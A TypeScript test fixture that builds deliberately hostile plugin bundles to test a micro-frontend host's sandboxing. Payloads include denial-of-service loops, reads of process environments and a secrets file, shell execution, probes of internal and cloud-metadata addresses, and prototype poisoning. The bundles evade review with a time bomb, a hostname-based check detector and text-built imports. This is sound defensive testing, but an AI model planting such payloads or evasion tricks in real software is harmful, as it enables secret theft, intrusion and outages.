import { type RemoteBuild, remoteBuild } from '@atrium/contracts/registry/builds.schemas';
import { zipSync } from 'fflate';

export const hostileRemote = { name: 'mfe-hostile', prefix: '/hostile' };

/** Code of a version that passes the check of its publication, at one of its places, and does its harm afterwards. */
export interface HostileKind {
  what: string;
  /** Evaluated with the module. */
  module?: string;
  /** In the loader of a page, with `args`. */
  loader?: string;
  /** In the component of a page. */
  render?: string;
  /** In a getter of what the module exports. */
  getter?: string;
}

const reveal = (code: string) =>
  `return h('pre', null, JSON.stringify((${code}), (_, v) => String(v ?? '').length > 50_000 ? '' : v))`;
const loop = 'for (;;);';

export const hostileKinds: readonly HostileKind[] = [
  { what: 'a loop in the render', render: loop },
  {
    what: 'memory of the heap',
    loader: 'const all = []; for (;;) all.push({ of: [...Array(1_000).keys()] });',
  },
  { what: 'exit', loader: 'process.exit(0);' },
  { what: 'a loop in the module', module: loop },
  { what: 'a loop in the loader', loader: loop },
  { what: 'a loop in a getter', getter: loop },
  { what: 'a loop in a timer that the module starts', module: `setTimeout(() => { ${loop} });` },
  { what: 'microtasks without an end', loader: 'await (async function again() { for (;;) await null; })();' },
  { what: 'a regular expression that backtracks', render: "/^(a+)+$/.test('a'.repeat(60) + '!');" },
  {
    what: 'memory outside of the heap',
    loader: 'const all = []; for (let n = 0; n < 4_000; n += 1) all.push(new Uint8Array(1_048_576).fill(1));',
  },
  {
    what: '100,000 timers',
    loader: 'for (let n = 0; n < 100_000; n += 1) setInterval(() => JSON.stringify(args), 1);',
  },
  { what: 'abort', loader: 'process.abort();' },
  {
    what: 'the end of the process by its own means',
    loader: "process.reallyExit(0); process.kill(process.pid, 'SIGKILL');",
  },
  { what: 'an unhandled rejection', loader: "Promise.reject(new Error('nobody waits'));" },
  { what: 'an uncaught exception', loader: "setTimeout(() => { throw new Error('nobody waits'); });" },
  {
    what: '`process`: its environment, arguments and descriptors',
    render: `process.env.PATH = '/'; process.chdir = process.cwd = process.nextTick = () => '/'; ${reveal('[process.env, process.argv, process.execArgv, process.config, process.report?.getReport?.()]')}`,
  },
  {
    what: '`require`: files, programs and threads',
    render: `const found = [];
      const get = (name) => process.getBuiltinModule?.(name) ?? process.mainModule?.require(name) ?? require(name);
      for (const attempt of [
        () => get('node:fs').readFileSync('/proc/self/environ', 'utf8'),
        () => get('node:fs').readFileSync('/proc/' + process.ppid + '/environ', 'utf8'),
        () => get('node:fs').readFileSync('DATA_DIR/secrets.json', 'utf8'),
        () => get('node:fs').writeFileSync('DATA_DIR/hostile', 'written'),
        () => String(get('node:child_process').execFileSync('id')),
        () => new (get('node:worker_threads').Worker)('setInterval(() => {}, 1)', { eval: true }).threadId,
        () => get('node:inspector').open(0),
      ]) try { found.push(attempt()); } catch (error) { found.push(String(error.code)); }
      ${reveal('found')}`,
  },
  {
    what: 'the network of the machine',
    loader: `args.request.signal;
      const tries = ['SITE_URL/api/auth/users', 'http://127.0.0.1:6379/', 'http://169.254.169.254/'];
      globalThis.found = await Promise.allSettled(tries.map(async (url) => (await fetch(url)).status));`,
    render: reveal('globalThis.found'),
  },
  {
    what: '`globalThis`',
    loader: `for (const name of ['Request', 'Response', 'Headers', 'URL', 'Promise', 'Buffer', 'setTimeout', 'queueMicrotask'])
      globalThis[name] = () => { throw new Error('mine'); };
      JSON.parse = JSON.stringify = () => '{"mine":true}';`,
  },
  {
    what: 'changed prototypes',
    loader: `Array.prototype.map = () => ['mine']; Map.prototype.get = Promise.prototype.then = () => 'mine';
      Object.prototype.toJSON = () => ({ type: 'rendered' }); Object.prototype.status = 204;`,
  },
  { what: '50 MB of HTML', render: "return h('p', null, '<'.repeat(10_000_000));" },
  { what: 'a loader that waits for ever', loader: 'await new Promise(() => {});' },
  { what: 'a render that waits for ever', render: 'throw new Promise(() => {});' },
  {
    what: 'calls of the API without an end',
    loader:
      "for (;;) await Promise.all([1, 2, 3, 4, 5].map(() => apiFrom(args).get('/api/search', { query: { q: 'atrium' } }).catch(() => null)));",
  },
  {
    what: 'messages that no page sends',
    loader: `const { Socket } = process.getBuiltinModule?.('node:net') ?? {};
      new Socket({ fd: 3 }).write(Buffer.alloc(4_000_000, 0xff));`,
  },
  {
    what: 'a response with cookies and headers without an end',
    loader: `const headers = new Headers({ location: 'https://elsewhere.example', 'set-cookie': 'token=1', 'x-mine': 'y'.repeat(5_000_000) });
      return new Response('x'.repeat(20_000_000), { status: 200, headers });`,
  },
];

interface Version {
  /** `<major>.0.0-hostile`. */
  major: number;
  /** Undefined for one that works. */
  kind?: HostileKind;
  /** When the module and what it exports become hostile, in milliseconds since 1970: at the publication and after it the same code runs. */
  armedAt: number;
  /** By which the code knows the check of the publication from the site. */
  siteUrl: string;
  dataDir: string;
}

/** The heading of its pages. */
export const headingOf = (major: number): string => `Version ${major} of the hostile team`;

/** An import of the bundle, not of this file: the check of the import table reads text. */
const requireOf = (name: string): string => `require(${JSON.stringify(name)})`;

function writeBundle({ major, kind, armedAt, siteUrl, dataDir }: Version): string {
  const { module = '', loader = '', render = '', getter = '' } = kind ?? {};
  return `
const { createElement: h } = ${requireOf('react')};
const { RouteErrorScreen, apiFrom } = ${requireOf('@atrium/mfe-kit')};
const isArmed = () => Date.now() > ${armedAt};
let isAtSite = false;
if (isArmed()) { ${module} }
const page = {
  id: 'hostile.page',
  path: 'hostile/*',
  async loader(args) {
    isAtSite = !new URL(args.request.url).hostname.endsWith('.invalid');
    if (isAtSite) { ${loader} }
    return null;
  },
  Component() {
    if (isAtSite) { ${render} }
    return h('h1', null, '${headingOf(major)}');
  },
};
const remote = { routes: [{ id: 'hostile', ErrorBoundary: RouteErrorScreen, children: [page] }] };
module.exports = { get remote() { if (isArmed()) { ${getter} } return remote; } };`
    .replaceAll('SITE_URL', siteUrl)
    .replaceAll('DATA_DIR', dataDir);
}

/** The archive as `atrium publish` packs it, with hardly any code for browsers. */
export function packVersion(version: Version): Uint8Array<ArrayBuffer> {
  const build: RemoteBuild = remoteBuild.parse({
    name: hostileRemote.name,
    version: `${version.major}.0.0-hostile`,
    ssr: true,
    prefixes: [hostileRemote.prefix],
    entry: 'remoteEntry.js',
    server: 'remote.cjs',
    expose: { js: [], css: [] },
    chunks: {},
  });
  const files = {
    'remote.json': JSON.stringify(build),
    'client/remoteEntry.js': '// hardly anything',
    'server/remote.cjs': writeBundle(version),
  };
  const encoded = Object.entries(files).map(([name, text]) => [name, new TextEncoder().encode(text)]);
  return new Uint8Array(zipSync(Object.fromEntries(encoded) as Record<string, Uint8Array>));
}
